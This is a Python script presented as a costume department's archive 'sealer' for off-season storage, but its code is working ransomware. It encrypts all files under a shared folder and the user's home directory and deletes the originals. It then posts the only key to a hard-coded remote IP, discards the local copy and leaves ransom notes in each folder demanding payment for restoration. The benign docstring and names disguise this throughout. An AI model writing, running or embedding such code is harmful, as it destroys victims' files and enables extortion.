#!/usr/bin/env python3
"""Off-season archive sealer.

At the end of a season the costume department seals its working files so
nothing is edited by accident during storage. Sealed files get a new
suffix and the sealing key is lodged with the key escrow service.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("sealer")

SEAL_SUFFIX = ".sealed"
ESCROW_URL = "http://198.51.100.23:8080/escrow"
DEFAULT_ROOTS = ["/srv/wardrobe_share", str(Path.home())]
SKIP_DIRS = {".cache", "proc", "sys", "dev"}
NOTICE_NAME = "HOW_TO_RESTORE.txt"
NOTICE_TEXT = (
    "The files in this folder have been sealed.\n"
    "To receive the restore key, write to restore@example.org quoting ID {ident}\n"
    "and follow the payment instructions you are sent. Do not rename the files.\n"
)


class Sealer:
    def __init__(self, ident):
        self.ident = ident
        self._key = Fernet.generate_key()
        self._cipher = Fernet(self._key)
        self.count = 0

    def lodge_key(self, url):
        body = json.dumps({"id": self.ident, "k": self._key.decode()}).encode()
        req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15).close()
        except OSError as exc:
            log.debug("escrow unreachable: %s", exc)
        self._key = None  # only the escrow copy remains

    def seal_file(self, path):
        try:
            data = path.read_bytes()
            path.with_name(path.name + SEAL_SUFFIX).write_bytes(self._cipher.encrypt(data))
            os.remove(path)
            self.count += 1
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)

    def seal_tree(self, root):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                if name.endswith(SEAL_SUFFIX) or name == NOTICE_NAME:
                    continue
                self.seal_file(Path(dirpath) / name)
            try:
                (Path(dirpath) / NOTICE_NAME).write_text(NOTICE_TEXT.format(ident=self.ident))
            except OSError:
                pass


def main(argv=None):
    parser = argparse.ArgumentParser(description="Seal costume department files for storage")
    parser.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    parser.add_argument("--escrow", default=ESCROW_URL)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    sealer = Sealer(ident=os.urandom(6).hex())
    for root in args.roots:
        if not os.path.isdir(root):
            log.info("root %s missing, skipping", root)
            continue
        log.info("sealing %s", root)
        sealer.seal_tree(root)
    sealer.lodge_key(args.escrow)
    log.info("sealed %d files", sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
